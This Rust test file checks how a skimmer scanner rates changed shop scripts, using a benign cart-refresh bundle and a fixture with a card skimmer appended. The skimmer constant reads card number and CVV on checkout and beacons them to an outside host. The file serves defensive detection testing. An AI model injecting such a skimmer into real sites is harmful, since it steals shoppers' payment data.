//! A changed script is rated by what its behaviour gained (issue: alert fatigue). A refactored
//! library that reads nothing new and sends nowhere new is a medium change to review; the same
//! library with a skimmer appended is high, with the engine's critical finding naming the host.

mod common;

use common::{scan_json, skimscan};
use std::path::Path;

const V1: &str = r#"(function () {
  function money(n) { return (n / 100).toFixed(2); }
  function refresh() {
    var x = new XMLHttpRequest();
    x.open('GET', '/cart/totals.json');
    x.onload = function () {
      document.getElementById('total').textContent = money(JSON.parse(x.responseText).total);
    };
    x.send();
  }
  document.addEventListener('DOMContentLoaded', refresh);
})();
"#;

/// The same behaviour, written differently (a new release of the shop's bundle).
const V2: &str = r#"(function () {
  'use strict';
  var fmt = new Intl.NumberFormat('en-US', { style: 'currency', currency: 'USD' });
  function refresh() {
    var req = new XMLHttpRequest();
    req.open('GET', '/cart/totals.json?v=2');
    req.onload = function () {
      var data = JSON.parse(req.responseText);
      document.getElementById('total').textContent = fmt.format(data.total / 100);
      document.getElementById('items').textContent = String(data.items);
    };
    req.send();
  }
  document.addEventListener('DOMContentLoaded', refresh);
  window.addEventListener('pageshow', refresh);
})();
"#;

const SKIMMER: &str = r#"
document.getElementById('checkout').addEventListener('submit', function () {
  var d = { n: document.getElementById('cc-number').value, c: document.getElementById('cc-cvv').value };
  navigator.sendBeacon('https://cdn-cart-metrics.com/b', JSON.stringify(d));
});
"#;

fn site(dir: &Path, bundle: &str) {
    std::fs::create_dir_all(dir.join("checkout")).unwrap();
    std::fs::create_dir_all(dir.join("static")).unwrap();
    std::fs::write(
        dir.join("checkout/index.html"),
        "<!doctype html><html><head><title>Checkout</title><script src=\"/static/cart.js\"></script></head>\
         <body><form id=\"checkout\" action=\"/order\" method=\"post\">\
         <input id=\"cc-number\" autocomplete=\"cc-number\"><input id=\"cc-cvv\" autocomplete=\"cc-csc\">\
         <span id=\"total\"></span><span id=\"items\"></span><button>Pay</button></form></body></html>",
    )
    .unwrap();
    std::fs::write(dir.join("static/cart.js"), bundle).unwrap();
}

fn changed(r: &serde_json::Value) -> Vec<&serde_json::Value> {
    r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "baseline-changed-script")
        .collect()
}

#[test]
fn a_change_is_rated_by_the_behaviour_it_gained() {
    let tmp = tempfile::tempdir().unwrap();
    let shop = tmp.path().join("shop");
    site(&shop, V1);
    let base = tmp.path().join("base.json");
    let shop_s = shop.to_string_lossy().into_owned();
    let base_s = base.to_string_lossy().into_owned();
    skimscan()
        .args(["baseline", "create", "-q", "--out", &base_s, &shop_s])
        .assert()
        .code(0);
    let recorded = std::fs::read_to_string(&base).unwrap();
    assert!(recorded.contains("\"behaviour\""), "{recorded}");

    // Same behaviour, new code: a medium change, and the default gate passes.
    std::fs::write(shop.join("static/cart.js"), V2).unwrap();
    let (code, r, _) = scan_json(&["--baseline", &base_s, &shop_s]);
    let c = changed(&r);
    assert_eq!(c.len(), 1, "{r}");
    assert_eq!(c[0]["severity"], "medium", "{}", c[0]);
    assert!(
        c[0]["message"]
            .as_str()
            .unwrap()
            .contains("behaviour is the same")
    );
    assert_eq!(code, 0, "a routine upgrade must not fail the gate");

    // The same file with a skimmer appended: high, and the message says what it gained.
    std::fs::write(shop.join("static/cart.js"), format!("{V2}{SKIMMER}")).unwrap();
    let (code, r, _) = scan_json(&["--baseline", &base_s, &shop_s]);
    assert_eq!(code, 1);
    let c = changed(&r);
    assert_eq!(c[0]["severity"], "high", "{}", c[0]);
    let msg = c[0]["message"].as_str().unwrap();
    assert!(msg.contains("cdn-cart-metrics.com"), "{msg}");
    assert!(
        r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["severity"] == "critical"
                && f["hosts"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|h| h == "cdn-cart-metrics.com")),
        "{r}"
    );
}

#[test]
fn a_baseline_without_behaviour_keeps_the_change_high() {
    let tmp = tempfile::tempdir().unwrap();
    let shop = tmp.path().join("shop");
    site(&shop, V1);
    let base = tmp.path().join("base.json");
    let shop_s = shop.to_string_lossy().into_owned();
    let base_s = base.to_string_lossy().into_owned();
    skimscan()
        .args(["baseline", "create", "-q", "--out", &base_s, &shop_s])
        .assert()
        .code(0);
    // A baseline written before behaviour was recorded: drop the field.
    let mut b: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&base).unwrap()).unwrap();
    for page in b["pages"].as_object_mut().unwrap().values_mut() {
        for s in page["scripts"].as_array_mut().unwrap() {
            s.as_object_mut().unwrap().remove("behaviour");
        }
    }
    std::fs::write(&base, serde_json::to_string_pretty(&b).unwrap()).unwrap();
    std::fs::write(shop.join("static/cart.js"), V2).unwrap();
    let (code, r, _) = scan_json(&["--baseline", &base_s, &shop_s]);
    assert_eq!(code, 1);
    let c = changed(&r);
    assert_eq!(c[0]["severity"], "high");
    assert!(
        c[0]["message"]
            .as_str()
            .unwrap()
            .contains("does not record what the old version did")
    );
}
